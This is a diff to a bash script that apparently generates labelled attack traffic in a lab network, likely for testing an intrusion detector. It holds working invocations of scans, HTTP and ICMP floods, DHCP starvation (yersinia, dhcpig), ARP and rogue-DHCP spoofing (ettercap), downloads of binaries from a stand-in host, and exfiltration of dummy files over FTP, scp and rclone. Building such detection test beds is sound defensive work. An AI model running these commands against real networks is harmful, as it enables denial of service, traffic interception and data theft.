@@ -31,7 +31,7 @@ out scan_zmap port-scan bad2 $BASTION; scan_zmap() { on 60 bash -c 'for p in 21 
 out scan_bursts port-scan bad $WWW; scan_bursts() { own 130 scan_bursts $WWW 5 5 22; }
 out scan_and_read port-scan bad2 $WWW; scan_and_read() { on 40 bash -c 'for i in $(seq 30); do curl -s -o /dev/null -m 3 http://10.140.3.80/news.html; sleep 1; done' & on 40 nmap -n -Pn -sT --max-rate 4 --max-retries 0 --top-ports 100 $WWW; wait_for_jobs; }
 
-out sweep_braa host-sweep bad $ZONE; sweep_braa() { on 30 braa -a 15 -r 0 -d 40000 public@10.140.3.1-10.140.3.254:.1.3.6.1.2.1.1.1.0; }
+out sweep_braa host-sweep bad $ZONE; sweep_braa() { on 30 braa -a 15 -r 1 -d 40000 public@10.140.3.1-10.140.3.254:.1.3.6.1.2.1.1.1.0; }
 out sweep_discover host-sweep bad2 $ZONE; sweep_discover() { on 40 nmap -n -sn -PS22,443 -PE -PP --max-rate 80 $ZONE; }
 out sweep_six host-sweep bad 2001:db8:c:3::/64 2001:db8:a::140; sweep_six() { own 40 sweep6 2001:db8:c:3:: 60 22; }
 out sweep_snail host-sweep bad2 $ZONE; sweep_snail() { own 200 sweep 10.140.3. 40-79 5555 0.25; }
@@ -69,11 +69,9 @@ out guess_stuffing brute-force bots $API "$(crowd 14)"; guess_stuffing() { own 6
 out guess_imap_one brute-force bad $STORE; guess_imap_one() { own 120 imap_one $STORE 24 0.5; }
 
 out flood_quic dos-flood bad $WWW; flood_quic() { own 15 quic_flood $WWW 900 6; }
-out flood_goldeneye_tool dos-flood bad2 $WWW; flood_goldeneye_tool() { on 9 goldeneye http://$WWW/news.html -w 4 -s 15 -m random; }
 out flood_ping6 dos-flood bad $WWW6 2001:db8:a::140; flood_ping6() { on 8 ping -6 -f -s 900 -c 6000 $WWW6; }
 out flood_udp6 dos-flood bad $WWW6 2001:db8:a::140; flood_udp6() { own 15 udp6 $WWW6 1200 6; }
-lan flood_dhcp_yersinia dos-flood rogue 255.255.255.255 -; flood_dhcp_yersinia() { on 5 yersinia dhcp -attack 1 -interface eth0; }
-lan flood_dhcpig dos-flood rogue 255.255.255.255 -; flood_dhcpig() { on 20 dhcpig -x 1 -o eth0; }
+lan flood_dhcp_yersinia dos-flood rogue 255.255.255.255 -; flood_dhcp_yersinia() { (cd "$LAB_DIR" && sleep 5 | on 5 yersinia dhcp -attack 1 -interface eth0); }
 out flood_invite dos-flood bad2 $API; flood_invite() { own 15 options_flood $API 700 7; }
 out flood_crowd dos-flood bots $WWW "$(crowd 30)"; flood_crowd() { own 25 crowd_requests $WWW 30 8 9; }
 out reflect_chargen dos-flood bad $WWW -; reflect_chargen() { own 15 reflected $WWW 19 500 6; }
@@ -145,19 +143,18 @@ lan fetch_exe malware desk $MASTER; fetch_exe() { on 20 bash -c 'curl -s -m 8 -A
 lan fetch_picture malware desk2 $MASTER; fetch_picture() { on 20 bash -c 'curl -s -m 8 -A "Mozilla/5.0" -o /dev/null http://198.51.100.77:8088/img/holiday.jpg; sleep 2; curl -s -m 8 -o /dev/null http://198.51.100.77:8088/img/2.jpg'; }
 lan fetch_elf malware desk $MASTER; fetch_elf() { on 20 bash -c 'for a in x86 mips arm7; do wget -q -T 5 -O /dev/null http://198.51.100.77:8088/bins/m.$a; sleep 1; done'; }
 
-lan leak_ftp exfiltration desk $MASTER '' 96; leak_ftp() {
+lan leak_ftp exfiltration desk $MASTER '' 400; leak_ftp() {
     mkdir -p "$LAB_DIR/drop/up"; chmod 777 "$LAB_DIR/drop/up"; head -c 30000000 /dev/urandom >"$LAB_DIR/secret"
     printf 'listen=YES\nanonymous_enable=YES\nwrite_enable=YES\nanon_upload_enable=YES\nanon_root=%s\nsecure_chroot_dir=/run/empty\nbackground=NO\nseccomp_sandbox=NO\n' "$LAB_DIR/drop" >"$LAB_DIR/drop.conf"
     sandboxed master sh -c 'mkdir -p /run/empty && exec vsftpd "$1"' sh "$LAB_DIR/drop.conf"; sleep 1
     on 40 curl -s -m 35 -T "$LAB_DIR/secret" ftp://$MASTER/up/secret.bin
 }
-lan leak_scp exfiltration desk2 $MASTER '' 96; leak_scp() { head -c 30000000 /dev/urandom >"$LAB_DIR/secret"; on 40 scp -q -i "$LAB_DIR/user" -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null "$LAB_DIR/secret" root@$MASTER:/dev/null; }
-lan leak_rclone exfiltration desk $MASTER '' 96; leak_rclone() { mkdir -p "$LAB_DIR/papers"; for i in $(seq 60); do head -c 500000 /dev/urandom >"$LAB_DIR/papers/$i"; done; on 40 rclone copy "$LAB_DIR/papers" :webdav:x --webdav-url http://$MASTER:8081 --retries 1; }
-lan leak_pieces exfiltration desk2 $MASTER '' 96; leak_pieces() { own 60 pieces $MASTER 8088 30 900000; }
-lan leak_drip exfiltration desk $MASTER '' 96; leak_drip() { own 80 drip $MASTER 7070 400000 70; }
+lan leak_scp exfiltration desk2 $MASTER '' 400; leak_scp() { head -c 30000000 /dev/urandom >"$LAB_DIR/secret"; on 40 scp -O -q -i "$LAB_DIR/user" -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null "$LAB_DIR/secret" root@$MASTER:/dev/null; }
+lan leak_rclone exfiltration desk $MASTER '' 400; leak_rclone() { mkdir -p "$LAB_DIR/papers"; for i in $(seq 60); do head -c 500000 /dev/urandom >"$LAB_DIR/papers/$i"; done; on 40 rclone copy "$LAB_DIR/papers" :webdav:x --webdav-url http://$MASTER:8081 --retries 1; }
+lan leak_pieces exfiltration desk2 $MASTER '' 400; leak_pieces() { own 60 pieces $MASTER 8088 30 900000; }
+lan leak_drip exfiltration desk $MASTER '' 400; leak_drip() { own 80 drip $MASTER 7070 400000 70; }
 
 lan arp_claims arp-spoof rogue 192.168.90.41 $ROGUE_MAC; arp_claims() { own 20 claims eth0 192.168.90.1 192.168.90.41 12 1.3; }
-lan arp_ports arp-spoof rogue 192.168.90.41 $ROGUE_MAC; arp_ports() { on 20 ettercap -T -q -o -i eth0 -M port /192.168.90.41// /192.168.90.1//; }
 lan dhcp_rogue arp-spoof rogue 255.255.255.255 $ROGUE_MAC; dhcp_rogue() { ns_start desk2 bash -c 'for i in 1 2 3 4 5; do sleep 3; timeout 4 nmap -n --script broadcast-dhcp-discover -e eth0 >/dev/null; done'; on 28 ettercap -T -q -o -i eth0 -M dhcp:192.168.90.100-110/255.255.255.0/192.168.90.66; }
 
 out exploit_redis exploit bad $API; exploit_redis() { own 20 redis_write $API; }
